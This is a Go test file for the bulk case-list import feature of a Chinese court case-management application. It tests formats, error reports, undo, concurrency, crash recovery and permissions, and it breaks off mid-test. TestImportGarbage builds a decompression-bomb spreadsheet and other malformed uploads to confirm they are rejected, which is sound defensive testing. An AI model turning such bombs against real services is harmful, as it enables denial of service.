package mashang_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"

	"mashang"
	"mashang/docket"
	"mashang/law/identity"
	"mashang/platform/app"
	"mashang/platform/auth"
	"mashang/platform/db"
	"mashang/platform/dbtest"
)

// listHead are the columns that the lists of these tests have.
const listHead = "案号,承办部门,案由,程序,立案日期,承办法官,诉讼地位,当事人,证件号码,手机号,地址"

// listOf is a list of cases with two parties each, numbered from a to b.
func listOf(a, b int) string {
	var out strings.Builder
	out.WriteString(listHead + "\r\n")
	for n := a; n <= b; n++ {
		fmt.Fprintf(&out, "（2026）冀11民初%d号,知识产权审判庭,买卖合同纠纷,简易程序,2026-02-09,周明远,原告,%s,%s,%s,河北省衡水市某街道%d号\r\n", n, plaintiff(n).name, plaintiff(n).id, plaintiff(n).phone, n)
		fmt.Fprintf(&out, "（2026）冀11民初%d号,,,,,,被告,%s有限公司,,,河北省衡水市某工业园\r\n", n, plaintiff(n).name)
	}
	return out.String()
}

type person struct{ name, id, phone string }

// plaintiff is the plaintiff of the case with a number.
func plaintiff(n int) person {
	digits := []rune("零一二三四五六七八九")
	name := []rune("原")
	for _, d := range fmt.Sprint(n) {
		name = append(name, digits[d-'0'])
	}
	return person{string(name), identity.Fictional(n%400, mustDate("1970-01-01").AddDays(n/400), true), identity.FictionalPhone(2000 + n%7000)}
}

// reported is an import as a program reads it.
type reported struct {
	Batch  struct{ State, Unused string }
	Counts map[string]int
	Items  []struct {
		N                   int
		Lines               []int
		Number, State, Case string
		Said                []struct {
			Line                int
			Column, Show, Basis string
		}
	}
	Next int
}

func (h *house) report(batch string) (r reported) {
	h.t.Helper()
	for after := -1; ; {
		var page reported
		a := h.get("郭正", fmt.Sprintf("/api/v1/intake/%s?after=%d", batch, after)).must(h.t, "report", 200)
		if err := json.Unmarshal([]byte(a.body), &page); err != nil {
			h.t.Fatal(err)
		}
		page.Items = append(r.Items, page.Items...)
		if r = page; page.Next == 0 {
			return r
		}
		after = page.Next
	}
}

// list uploads a list as the filing judge, and has it tried.
func (h *house) list(content string) (batch string) {
	h.t.Helper()
	batch = h.upload("郭正", "/intake", nil, "list", "名单.csv", []byte(content)).must(h.t, "upload", 200).get("batch")
	h.drain()
	return batch
}

func (h *house) confirm(batch string) {
	h.t.Helper()
	h.post("郭正", "/intake/"+batch+"/confirm", nil).must(h.t, "confirm", 200)
}

// imported is a list that was carried out.
func (h *house) imported(content string) (batch string) {
	h.t.Helper()
	batch = h.list(content)
	h.confirm(batch)
	h.drain()
	return batch
}

func (h *house) states(want string, r reported) {
	h.t.Helper()
	var got []string
	for _, k := range slices.Sorted(maps.Keys(r.Counts)) {
		if k != "all" {
			got = append(got, fmt.Sprintf("%s %d", k, r.Counts[k]))
		}
	}
	if s := r.Batch.State + ": " + strings.Join(got, ", "); s != want {
		h.t.Errorf("got %s, want %s", s, want)
	}
}

// rows counts what a query finds.
func (h *house) rows(q string, args ...any) (n int) {
	h.t.Helper()
	if err := h.Kit.Read(h.t.Context(), func(tx *db.Tx) (err error) {
		v, err := db.One[int64](tx, q, args...)
		n = int(v)
		return err
	}); err != nil {
		h.t.Fatal(err)
	}
	return n
}

// once holds that every case from a to b is there once, with one entry.
func (h *house) once(a, b int) {
	h.t.Helper()
	for n := a; n <= b; n++ {
		if got := h.rows(`SELECT COUNT(*) FROM docket_case WHERE number = ?`, fmt.Sprintf("（2026）冀11民初%d号", n)); got != 1 {
			h.t.Errorf("case %d is there %d times", n, got)
		}
	}
	if got := h.rows(`SELECT COUNT(*) FROM ledger_entry WHERE kind = 'casebook.imported'`); got != b-a+1 {
		h.t.Errorf("%d entries, want %d", got, b-a+1)
	}
}

// TestImportForms: one list in each form in which a court's computer saves it.
func TestImportForms(t *testing.T) {
	gbk, err := simplifiedchinese.GBK.NewEncoder().String(listOf(1, 2))
	if err != nil {
		t.Fatal(err)
	}
	semicolons := strings.ReplaceAll(listOf(1, 2), ",", ";")
	book := excelize.NewFile()
	for r, l := range strings.Split(strings.TrimSpace(listOf(1, 2)), "\r\n") {
		cells := strings.Split(l, ",")
		slices.Reverse(cells) // the order of the columns does not matter
		for c, v := range cells {
			at, _ := excelize.CoordinatesToCellName(c+1, 2+r*2) // nor do rows that are empty
			var cell any = v
			switch {
			case r == 0:
				cell = " " + strings.Join(strings.Split(v, ""), " ") + " *"
			case v == "2026-02-09":
				cell = time.Date(2026, 2, 9, 0, 0, 0, 0, time.UTC) // a real date
			case len(v) == 11 && v[0] == '1':
				var n int
				_, _ = fmt.Sscan(v, &n)
				cell = n // a phone that became an amount
			}
			if err := book.SetCellValue("Sheet1", at, cell); err != nil {
				t.Fatal(err)
			}
		}
	}
	xlsx, err := book.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	for name, content := range map[string]string{
		"utf-8": listOf(1, 2), "with its mark": "\xef\xbb\xbf" + listOf(1, 2), "GBK": gbk, "semicolons": semicolons, "lf": strings.ReplaceAll(listOf(1, 2), "\r\n", "\n"),
		"quoted": strings.ReplaceAll(listOf(1, 2), "河北省衡水市某工业园", "\"河北省\n衡水市,某工业园\""), "xlsx": xlsx.String(),
	} {
		t.Run(name, func(t *testing.T) {
			h := newHouse(t, dbtest.SQLite(t))
			batch := h.list(content)
			r := h.report(batch)
			h.states("tried: new 2", r)
			want := [][]int{{2, 3}, {4, 5}}
			switch name {
			case "xlsx":
				want = [][]int{{4, 6}, {8, 10}}
			case "quoted":
				want = [][]int{{2, 3}, {5, 6}}
			}
			if len(r.Items) == 2 && (!slices.Equal(r.Items[0].Lines, want[0]) || !slices.Equal(r.Items[1].Lines, want[1])) {
				t.Errorf("lines %v %v, want %v", r.Items[0].Lines, r.Items[1].Lines, want)
			}
			h.confirm(batch)
			h.drain()
			h.states("done: created 2", h.report(batch))
			h.once(1, 2)
			c := h.caseOf(h.report(batch).Items[0].Case)
			if c.Filed != mustDate("2026-02-09") || c.Names != "原一 诉 原一有限公司" {
				t.Errorf("%+v", c)
			}
			p := plaintiff(1)
			_, short := h.caseCode(c.ID, p.name)
			h.signIn(p.name, "resident", p.id, p.phone, short) // id and phone arrived as they were
		})
	}
}

// TestImportTry: trying a list writes its report and nothing else.
func TestImportTry(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		h.imported(listOf(1, 3))
		more := strings.Replace(listOf(2, 6), "买卖合同纠纷", "租赁合同纠纷", 1) // 2 is changed, 3 is the same, 4 to 6 are new
		more = strings.Replace(more, plaintiff(6).id, "110101199001011234", 1)
		batch := h.upload("郭正", "/intake", nil, "list", "名单.csv", []byte(more)).must(t, "upload", 200).get("batch")
		if _, err := h.Kit.Ledger.Seal(t.Context(), h.Kit.DB); err != nil {
			t.Fatal(err)
		}
		before, err := readAll(h)
		if err != nil {
			t.Fatal(err)
		}
		h.drain()
		after, err := readAll(h)
		if err != nil {
			t.Fatal(err)
		}
		for _, table := range []string{"intake_batch", "intake_item", "jobs_job"} {
			delete(before, table)
			delete(after, table)
		}
		if d := before.differs(after, false); d != "" {
			t.Errorf("the try wrote:\n%s", d)
		}
		h.states("tried: change 1, new 2, same 1, wrong 1", h.report(batch))
		if n := h.rows(`SELECT COUNT(*) FROM ledger_entry WHERE kind LIKE 'casebook.%'`); n != 3 {
			t.Errorf("%d entries of cases", n)
		}
		h.confirm(batch)
		h.drain()
		h.states("done: changed 1, created 2, same 1, wrong 1", h.report(batch))
		// The same list again: nothing to do, and nothing to confirm.
		again := h.list(strings.Replace(listOf(2, 5), "买卖合同纠纷", "租赁合同纠纷", 1))
		h.states("tried: same 4", h.report(again))
		a := h.post("郭正", "/intake/"+again+"/confirm", nil).must(t, "confirm nothing", 409)
		has(t, "confirm nothing", a.body, "没有可以导入的案件")
	})
}

// TestImportReport: the report says of every row, exactly, what is wrong and
// where; on the page, and as a file.
func TestImportReport(t *testing.T) {
	h := newHouse(t, dbtest.SQLite(t))
	row := func(number, division, cause, procedure, filed, judge, role, name, id, phone, address string) string {
		return strings.Join([]string{number, division, cause, procedure, filed, judge, role, name, id, phone, address}, ",") + "\n"
	}
	ip, jia := "知识产权审判庭", []string{"原告", "贾若兰", jiaID, jiaPhone, "某街道1号"}
	party := func(f ...string) []string { return append(f, jia...) }
	list := listHead + ",不认得的栏\n"
	for _, c := range [][]string{
		party("（2026）冀11民初1号", ip, "买卖合同纠纷", "简易程序", "2026-02-09", "周明远"),
		party("", ip, "买卖合同纠纷", "简易程序", "2026-02-09", "周明远"),
		party("12号", ip, "买卖合同纠纷", "简易程序", "2026-02-09", "周明远"),
		party("（2026）冀01民初1号", ip, "买卖合同纠纷", "简易程序", "2026-02-09", "周明远"),
		party("（2026）冀11民初2号", "民九庭", "买卖合同纠纷", "简易程序", "2026-02-09", "某某"),
		party("（2026）冀11民初3号", ip, "买卖合同纠纷", "快速程序", "去年", "周明远"),
		{"（2026）冀11民初4号", ip, "买卖合同纠纷", "简易程序", "2026-02-09", "周明远", "原告", "贾若兰", "1.3110119900101E+17", jiaPhone, "某街道1号"},
		party("（2026）冀11民初5号", ip, "买卖合同纠纷", "简易程序", "2026-02-09", "周明远"),
		{"（2026）冀11民初5号", ip, "租赁合同纠纷", "", "", "", "被告", "钱大海", "", "", "某村"},
		{"（2026）冀11民初6号", ip, "买卖合同纠纷", "简易程序", "2026-02-09", "周明远", "原告", "贾若兰", "", "", ""},
		{"（2026）冀11民初7号", ip, "买卖合同纠纷", "简易程序", "2026-02-09", "周明远", "原告", "贾兰", jiaID, jiaPhone, "某街道1号"},
	} {
		list += row(c[0], c[1], c[2], c[3], c[4], c[5], c[6], c[7], c[8], c[9], c[10])
	}
	batch := h.list(list)
	h.states("tried: new 1, wrong 9", h.report(batch))
	got := h.get("郭正", "/intake/"+batch+"/report?form=csv").must(t, "report", 200).body
	want := "\ufeff" + strings.Join([]string{
		"行,案号,结果,哪一栏,说明,依据",
		"2,（2026）冀11民初1号,可以导入,,,",
		"3,,要改,案号,没有写案号。,",
		"4,,要改,案号,案号写成（2026）冀11民初12号这样。,",
		"5,（2026）冀01民初1号,要改,案号,案号不是本院的，本院的代字是“冀11”。,",
		"6,（2026）冀11民初2号,要改,承办部门,本院没有叫“民九庭”的部门。请照“人员”页上的部门名称写。,",
		"6,（2026）冀11民初2号,要改,承办法官,本院没有叫“某某”的法官。请先在“人员”页加他；已经离开的，这一栏空着。,",
		"7,（2026）冀11民初3号,要改,程序,写普通程序、简易程序、小额诉讼程序或者特别程序。,",
		"7,（2026）冀11民初3号,要改,立案日期,日期写成 2026-03-01 这样。,",
		"8,（2026）冀11民初4号,要改,证件号码,这个号码被表格当成数字改掉了。请把这一栏设成“文本”，重新填号码。,",
		"10,（2026）冀11民初5号,要改,案由,同一个案件前面的行写的不一样。请留一个对的。,",
	}, "\r\n") + "\r\n"
	if !strings.HasPrefix(got, want) {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	has(t, "the last row", strings.TrimPrefix(got, want), "11,（2026）冀11民初6号,要改,证件号码,", "11,（2026）冀11民初6号,要改,手机号,", "11,（2026）冀11民初6号,要改,地址,",
		"12,（2026）冀11民初7号,要改,证件号码,同一个证件号码，这份表格前面写的是另一个名字。请对着证件看一遍。,")
	// The page and the Excel file say the same.
	page := h.get("郭正", "/intake/"+batch).must(t, "page", 200).body
	f, err := excelize.OpenReader(strings.NewReader(h.get("郭正", "/intake/"+batch+"/report").must(t, "xlsx", 200).body))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows("结果")
	if err != nil {
		t.Fatal(err)
	}
	text, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(got, "\ufeff"))).ReadAll()
	if err != nil || len(text) != len(rows) {
		t.Fatalf("%d rows in Excel, %d in CSV, %v", len(rows), len(text), err)
	}
	for i, r := range text {
		if strings.TrimRight(strings.Join(r, "|"), "|") != strings.Join(rows[i], "|") {
			t.Errorf("row %d: %q and %q", i, r, rows[i])
		}
		if i > 0 && r[4] != "" {
			has(t, "page", page, r[4])
		}
	}
	has(t, "page", page, "这几栏用不上，没有读：不认得的栏。", "确认导入 1 件", "要改的 9 件")
	// Only what is wrong.
	only := h.get("郭正", "/intake/"+batch+"?only=new").must(t, "only", 200).body
	if !strings.Contains(only, "（2026）冀11民初1号") || strings.Contains(only, "（2026）冀11民初5号") {
		t.Error("the filter shows something else")
	}
}

// TestImportPages: a long report is read page by page, each case once.
func TestImportPages(t *testing.T) {
	h := newHouse(t, dbtest.SQLite(t))
	batch := h.list(listOf(1, 120))
	r := h.report(batch)
	seen := map[string]bool{}
	for i, it := range r.Items {
		if it.N != i || seen[it.Number] {
			t.Errorf("item %d is %d %s", i, it.N, it.Number)
		}
		seen[it.Number] = true
	}
	if len(seen) != 120 {
		t.Errorf("%d cases", len(seen))
	}
	page := h.get("郭正", "/intake/"+batch).must(t, "page", 200).body
	has(t, "page", page, "after=49", "后面的")
	h.get("郭正", "/intake/"+batch+"?after=x").must(t, "nonsense", 404)
}

// TestImportUndo: what was made goes, what was worked on stays and says why,
// what was there before keeps its new words; a second time does nothing.
func TestImportUndo(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		h.imported(listOf(1, 1))
		batch := h.imported(strings.Replace(listOf(1, 4), "买卖合同纠纷", "租赁合同纠纷", 1)) // 1 is changed
		r := h.report(batch)
		h.states("done: changed 1, created 3", r)
		h.post("周明远", "/casebook/"+r.Items[2].Case+"/close", map[string]string{"way": "withdrawal", "on": "2026-03-03"}).must(t, "close", 200)
		h.get("周明远", "/casebook/"+r.Items[1].Case).must(t, "who only looks does nothing", 200)
		h.drain()
		counted := h.get("周明远", "/api/v1/casebook").body
		h.post("郭正", "/intake/"+batch+"/undo", nil).must(t, "undo", 200)
		a := h.post("郭正", "/intake/"+batch+"/undo", nil).must(t, "undo at once again", 409)
		has(t, "again", a.body, "已经撤销过了")
		h.drain()
		u := h.report(batch)
		h.states("undone: kept 2, withdrawn 2", u)
		has(t, "changed", u.Items[0].Said[0].Show, "导入以前就有")
		has(t, "worked on", u.Items[2].Said[0].Show, "有人办过")
		for i, want := range []int{200, 404, 200, 404} {
			if got := h.get("周明远", "/casebook/"+r.Items[i].Case).code; got != want {
				t.Errorf("case %d: %d, want %d", i+1, got, want)
			}
		}
		if list := h.get("周明远", "/api/v1/casebook").body; strings.Count(list, `"number"`) != strings.Count(counted, `"number"`)-2 {
			t.Errorf("the judge's list: %s", list)
		}
		h.post("郭正", "/intake/"+batch+"/undo", nil).must(t, "undo when it is over", 409)
		h.post("郭正", "/intake/"+batch+"/confirm", nil).must(t, "confirm when it is over", 409)
		h.drain()
		h.states("undone: kept 2, withdrawn 2", h.report(batch))
		// The trail has it all, and the numbers are free.
		if n := h.rows(`SELECT COUNT(*) FROM ledger_entry WHERE kind = 'casebook.withdrawn'`); n != 2 {
			t.Errorf("%d withdrawals", n)
		}
		h.states("done: created 1", h.report(h.imported(listOf(2, 2))))
	})
}

// TestImportUndoWhileRunning: an import that is being taken back stops where it
// is; what it had made goes, the rest never comes.
func TestImportUndoWhileRunning(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		batch := h.list(listOf(1, 25))
		h.confirm(batch)
		n := 0
		h.Kit.Fail = func(tx *db.Tx) error { // the machine stops after seven
			if auth.From(tx.Context()).System == "intake.carry" {
				if n++; n > 7 {
					return errFault
				}
			}
			return nil
		}
		h.drain()
		h.Kit.Fail = nil
		h.states("running: created 7, new 18", h.report(batch))
		page := h.get("郭正", "/intake/"+batch).must(t, "progress", 200).body
		has(t, "progress", page, "完成了百分之28", `value="28"`, "data-again")
		h.post("郭正", "/intake/"+batch+"/undo", nil).must(t, "undo", 200)
		has(t, "undoing", h.get("郭正", "/intake/"+batch).body, "正在撤销")
		h.clock.Add(time.Minute)
		h.drain()
		h.states("undone: new 18, withdrawn 7", h.report(batch))
		page = h.get("郭正", "/intake/"+batch).must(t, "undone", 200).body
		has(t, "undone", page, "没有导入", "撤销了 7 件")
		if strings.Contains(page, "可以导入") || strings.Contains(page, "确认导入") {
			t.Error("it offers what is over")
		}
		if left := h.rows(`SELECT COUNT(*) FROM docket_case WHERE number <> ''`); left != 0 {
			t.Errorf("%d cases are left", left)
		}
		// The same while the queue works beside it.
		other := h.list(listOf(31, 60))
		h.confirm(other)
		var undo sync.WaitGroup
		n = 0
		h.Kit.Fail = func(tx *db.Tx) error {
			if auth.From(tx.Context()).System == "intake.carry" {
				if n++; n == 12 {
					undo.Go(func() { h.post("郭正", "/intake/"+other+"/undo", nil).must(t, "undo", 200) })
				}
			}
			return nil
		}
		h.drain()
		undo.Wait()
		h.Kit.Fail = nil
		h.drain()
		r := h.report(other)
		if r.Batch.State != "undone" || r.Counts["withdrawn"] < 11 || r.Counts["withdrawn"]+r.Counts["new"] != 30 {
			t.Errorf("%s %v", r.Batch.State, r.Counts)
		}
		if left := h.rows(`SELECT COUNT(*) FROM docket_case WHERE number <> ''`); left != 0 {
			t.Errorf("%d cases are left", left)
		}
	})
}

// TestImportTwice: a double click, a page that was open twice and two judges
// confirm once.
func TestImportTwice(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		batch := h.list(listOf(1, 5))
		var wg sync.WaitGroup
		var mu sync.Mutex
		codes := map[int]int{}
		for range 6 {
			wg.Go(func() {
				a := h.post("郭正", "/intake/"+batch+"/confirm", nil)
				mu.Lock()
				defer mu.Unlock()
				codes[a.code]++
			})
		}
		wg.Wait()
		if codes[200] != 1 || codes[409] != 5 {
			t.Errorf("answers %v", codes)
		}
		h.drain()
		h.once(1, 5)
		h.states("done: created 5", h.report(batch))
		h.post("郭正", "/intake/"+batch+"/confirm", nil).must(t, "a page that stood open", 409)
	})
}

// TestImportFailed: what was right when it was tried, and is not when it is
// carried out, is not carried out, and the report says why. The rest is.
func TestImportFailed(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		one := h.list(listOf(1, 1))
		two := h.list(strings.Replace(listOf(2, 3), plaintiff(2).id, plaintiff(1).id, 1))
		h.states("tried: new 1", h.report(one))
		h.states("tried: new 2", h.report(two))
		h.confirm(one)
		h.drain()
		h.confirm(two)
		h.drain()
		r := h.report(two)
		h.states("done: created 1, failed 1", r)
		said := r.Items[0].Said
		if len(said) != 1 || said[0].Line != 2 || said[0].Column != "当事人" || !strings.Contains(said[0].Show, "另一个名字") {
			t.Errorf("%+v", said)
		}
		has(t, "page", h.get("郭正", "/intake/"+two).body, "没有导入", "要看一看的，1 件")
		if n := h.rows(`SELECT COUNT(*) FROM ledger_entry WHERE kind = 'casebook.imported'`); n != 2 {
			t.Errorf("%d entries", n)
		}
	})
}

// TestImportOverlap: two lists with the same numbers at once. Each case is made
// once, by one of them.
func TestImportOverlap(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		one, two := h.list(listOf(1, 30)), h.list(listOf(11, 40))
		h.confirm(one)
		h.confirm(two)
		var wg sync.WaitGroup
		for range 4 {
			wg.Go(func() {
				if err := h.Kit.Jobs.Drain(t.Context()); err != nil {
					t.Error(err)
				}
			})
		}
		wg.Wait()
		for range 5 { // a job that lost a race waits for its turn
			h.clock.Add(time.Minute)
			h.drain()
		}
		h.once(1, 40)
		a, b := h.report(one), h.report(two)
		if a.Batch.State != "done" || b.Batch.State != "done" || a.Counts["created"]+b.Counts["created"] != 40 || a.Counts["same"]+b.Counts["same"] != 20 {
			t.Errorf("%v %v", a, b)
		}
		// Each takes back what it made itself.
		h.post("郭正", "/intake/"+one+"/undo", nil).must(t, "undo", 200)
		h.drain()
		if left := h.rows(`SELECT COUNT(*) FROM docket_case WHERE number <> ''`); left != b.Counts["created"] {
			t.Errorf("%d are left, want %d", left, b.Counts["created"])
		}
	})
}

// TestImportKilled: the process ends at every row, before and after it is
// durable; the court is opened again on the same data. Every case comes once.
func TestImportKilled(t *testing.T) {
	for _, engine := range []struct {
		name string
		dsn  func(testing.TB) string
	}{{"sqlite", dbtest.SQLite}, {"postgres", dbtest.Postgres}} {
		t.Run(engine.name, func(t *testing.T) {
			h := newHouse(t, engine.dsn(t))
			batch := h.upload("郭正", "/intake", nil, "list", "名单.csv", []byte(listOf(1, 8))).must(t, "upload", 200).get("batch")
			killed := 0
			for until := ""; until != "done"; until = h.report(batch).Batch.State {
				if killed++; killed > 60 {
					t.Fatalf("it does not come to an end: %+v", h.report(batch))
				}
				ctx, kill := context.WithCancel(t.Context())
				acts := 0
				h.Kit.Fail = func(tx *db.Tx) error {
					if strings.HasPrefix(auth.From(tx.Context()).System, "intake.") {
						if acts++; acts == 1+killed%3 {
							kill()
							if killed%2 == 0 { // the act itself does not reach the disk
								return context.Canceled
							}
						}
					}
					return nil
				}
				if err := h.Kit.Jobs.Drain(ctx); err != nil && !errors.Is(err, context.Canceled) {
					t.Fatal(err)
				}
				kill()
				h.reopen()
				h.clock.Add(time.Hour) // whatever it had taken is given to another
				if h.report(batch).Batch.State == "tried" {
					h.confirm(batch)
				}
			}
			h.drain()
			h.once(1, 8)
			h.states("done: created 8", h.report(batch))
			if killed < 8 {
				t.Errorf("killed %d times", killed)
			}
			for kind, want := range map[string]int{"intake.uploaded": 1, "intake.confirmed": 1, "intake.done": 1} {
				if n := h.rows(`SELECT COUNT(*) FROM ledger_entry WHERE kind = ?`, kind); n != want {
					t.Errorf("%s: %d", kind, n)
				}
			}
		})
	}
}

// reopen closes the court and opens it again on the same data.
func (h *house) reopen() {
	h.t.Helper()
	cfg, log := h.Kit.Config, h.Kit.Log
	if err := h.Kit.Close(); err != nil {
		h.t.Fatal(err)
	}
	k, err := app.Open(h.t.Context(), cfg, h.clock, log)
	if err != nil {
		h.t.Fatal(err)
	}
	if h.Court, err = mashang.Assemble(h.t.Context(), k); err != nil {
		h.t.Fatal(err)
	}
}

// TestImportWho: a filing judge of the court, and nobody else, whatever it is.
func TestImportWho(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		h.administrators()
		h.accepted()
		long, _ := h.caseCode(h.rowsText(`SELECT id FROM docket_case`), "贾若兰")
		h.signIn("贾若兰", "resident", jiaID, jiaPhone, long)
		if err := h.Kit.DB.Do(t.Context(), func(tx *db.Tx) (err error) {
			if h.people["邻立"], err = docket.AddPerson(tx, docket.Person{Kind: "natural", Name: "邻立", At: h.Kit.Now()}); err != nil {
				return err
			}
			_, err = docket.AddPost(tx, docket.Post{Person: h.people["邻立"], Court: "冀1126", Division: h.divs["冀1126立案庭"], Role: docket.FilingJudge, From: h.Kit.Now().Add(-time.Hour)}, h.Kit.Now())
			return err
		}); err != nil {
			t.Fatal(err)
		}
		batch := h.list(listOf(101, 102))
		before, err := readAll(h)
		if err != nil {
			t.Fatal(err)
		}
		for _, who := range []string{"", "贾若兰", "周明远", "李倩", "孙庭", "王院", "韩雪", "系统", "安全", "审计", "督察", "邻县", "邻立"} {
			want := 403
			if who == "" {
				want = 401
			}
			for _, path := range []string{"/intake/" + batch, "/intake/" + batch + "/report"} {
				if got := h.get(who, "/api/v1"+path).code; got != want {
					t.Errorf("%q %s: %d", who, path, got)
				}
			}
			for _, path := range []string{"/intake/" + batch + "/confirm", "/intake/" + batch + "/undo"} {
				if got := h.post(who, path, nil).code; got != want {
					t.Errorf("%q %s: %d", who, path, got)
				}
			}
			if who == "邻立" { // a filing judge, of his own court
				if a := h.get(who, "/api/v1/intake"); a.code != 200 || strings.Contains(a.body, batch) {
					t.Errorf("the neighbour's list: %d %s", a.code, a.body)
				}
				continue
			}
			if got := h.upload(who, "/intake", nil, "list", "名单.csv", []byte(listOf(1, 1))).code; got != want {
				t.Errorf("%q uploads: %d", who, got)
			}
			for _, path := range []string{"/intake", "/intake/template"} {
				if got := h.get(who, "/api/v1"+path).code; got != want {
					t.Errorf("%q %s: %d", who, path, got)
				}
			}
		}
		after, err := readAll(h)
		if err != nil {
			t.Fatal(err)
		}
		if d := before.differs(after, false); d != "" {
			t.Errorf("somebody wrote:\n%s", d)
		}
		// The neighbour's own upload goes to his own court: these numbers are not its.
		other := h.upload("邻立", "/intake", nil, "list", "名单.csv", []byte(listOf(1, 1))).must(t, "his own", 200).get("batch")
		h.drain()
		has(t, "his report", h.get("邻立", "/api/v1/intake/"+other).must(t, "report", 200).body, "案号不是本院的")
		h.get("郭正", "/api/v1/intake/"+other).must(t, "and it is his", 403)
	})
}

func (h *house) rowsText(q string, args ...any) (out string) {
	h.t.Helper()
	if err := h.Kit.Read(h.t.Context(), func(tx *db.Tx) error {
		all, err := db.List[string](tx, q, args...)
		out = strings.Join(all, "\n")
		return err
	}); err != nil {
		h.t.Fatal(err)
	}
	return out
}

// TestImportGarbage: what is not a list is refused in words, at once, and
// nothing of it is kept.
func TestImportGarbage(t *testing.T) {
	h := newHouse(t, dbtest.SQLite(t))
	book := func(f func(*excelize.File)) string {
		b := excelize.NewFile()
		f(b)
		out, err := b.WriteToBuffer()
		if err != nil {
			t.Fatal(err)
		}
		return out.String()
	}
	bomb := func(part string) string { // two hundred megabytes of blanks in a small file
		base := book(func(f *excelize.File) { _ = f.SetCellValue("Sheet1", "A1", "案号") })
		in, err := zip.NewReader(strings.NewReader(base), int64(len(base)))
		if err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		z := zip.NewWriter(&out)
		for _, f := range in.File {
			w, err := z.Create(f.Name)
			if err != nil {
				t.Fatal(err)
			}
			r, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			_, _ = b.ReadFrom(r)
			_ = r.Close()
			_, _ = w.Write(b.Bytes())
			if f.Name == part {
				blank := bytes.Repeat([]byte(" "), 1<<20)
				for range 200 {
					_, _ = w.Write(blank)
				}
			}
		}
		_ = z.Close()
		return out.String()
	}
	yes := true
	for name, x := range map[string]struct{ content, words string }{
		"empty":        {"", "请选填好的表格"},
		"blank lines":  {"\n\n ,,, \n", "文件是空的"},
		"head only":    {listHead + "\n", "只有标题"},
		"no head":      {"a,b,c\n1,2,3\n", "案号"},
		"column twice": {"案号,身份证号,证件号码\n1,2,3\n", "“证件号码”这一栏有两个"},
		"a picture":    {"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "请传 Excel 表格"},
		"old excel":    {"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("x", 600), "另存为 .xlsx"},
		"a broken zip": {"PK\x03\x04" + strings.Repeat("x", 100), "请传 Excel 表格"},
		"another zip": {func() string {
			var b bytes.Buffer
			z := zip.NewWriter(&b)
			w, _ := z.Create("a.txt")
			_, _ = w.Write([]byte("x"))
			_ = z.Close()
			return b.String()
		}(), "请传 Excel 表格"},
		"neither":       {"案号,\xff\xfe\xfd\n1,2\n", "请传 Excel 表格"},
		"too many rows": {"案号\n" + strings.Repeat("（2026）冀11民初1号\n", 20001), "一次最多 20000 行"},
		"too long":      {"案号,案由\n1," + strings.Repeat("长", 5001) + "\n", "超过 5000 字"},
		"too wide": {book(func(f *excelize.File) {
			_ = f.SetCellValue("Sheet1", "A1", "案号")
			_ = f.SetCellValue("Sheet1", "XFD1", "x")
		}), "超过 200 栏"},
		"far down": {book(func(f *excelize.File) {
			_ = f.SetCellValue("Sheet1", "A1", "案号")
			_ = f.SetCellValue("Sheet1", "A1048576", "1")
		}), "行数太多"},
		"1904": {book(func(f *excelize.File) {
			_ = f.SetCellValue("Sheet1", "A1", "案号")
			_ = f.SetWorkbookProps(&excelize.WorkbookPropsOptions{Date1904: &yes})
		}), "1904"},
		"bomb":        {bomb("xl/worksheets/sheet1.xml"), "请传 Excel 表格"},
		"bomb beside": {bomb("xl/styles.xml"), "请传 Excel 表格"},
		"quotes":      {"案号,案由\n1,\"没有完\n", "第"},
	} {
		start := time.Now()
		a := h.upload("郭正", "/intake", nil, "list", "名单.xlsx", []byte(x.content))
		if name == "quotes" { // an open quotation mark runs to the end: a cell, and judged as one
			if a.code != 200 && a.code != 422 {
				t.Errorf("%s: %d %s", name, a.code, a.body)
			}
			continue
		}
		if a.code != 422 || !strings.Contains(a.body, x.words) || !strings.Contains(a.body, `"list"`) {
			t.Errorf("%s: %d %s", name, a.code, a.body)
		}
		if d := time.Since(start); d > 10*time.Second {
			t.Errorf("%s took %s", name, d)
		}
	}
	huge := h.upload("郭正", "/intake", nil, "list", "名单.csv", bytes.Repeat([]byte("x"), 22<<20))
	if huge.code != http.StatusRequestEntityTooLarge && huge.code != 422 {
		t.Errorf("huge: %d %s", huge.code, huge.body)
	}
	h.drain()
	if n, files := h.rows(`SELECT COUNT(*) FROM intake_batch`), h.files(); n > 1 || files != n {
		t.Errorf("%d imports and %d files are kept", n, files)
	}
	// What it answers is a page too, with the words beside the field.
	has(t, "page", h.form("郭正", "/intake", nil, "list", "名单.csv", []byte("不是表格")).body, "第一行要写各栏的名称", "上传，先试一遍")
}

func (h *house) files() (n int) {
	h.t.Helper()
	if err := h.Kit.Blob.Each(h.t.Context(), func(string) error { n++; return nil }); err != nil {
		h.t.Fatal(err)
	}
	return n
}

// TestImportSecrets: whose number stands in a list, in its column or in a wrong
// one, stands afterwards in no log, figure, error, job, entry or address, nor
// anywhere in the database but sealed.
func TestImportSecrets(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		id, phone, wrong := plaintiff(7).id, plaintiff(7).phone, "110101199001011234"
		row := func(n int, f ...string) string {
			return fmt.Sprintf("（2026）冀11民初%d号,%s\n", n, strings.Join(f, ","))
		}
		list := listHead + "," + id + "\n" +
			row(1, "知识产权审判庭", "买卖合同纠纷", "简易程序", "2026-02-09", "周明远", "原告", "原七", id, phone, "某街道") +
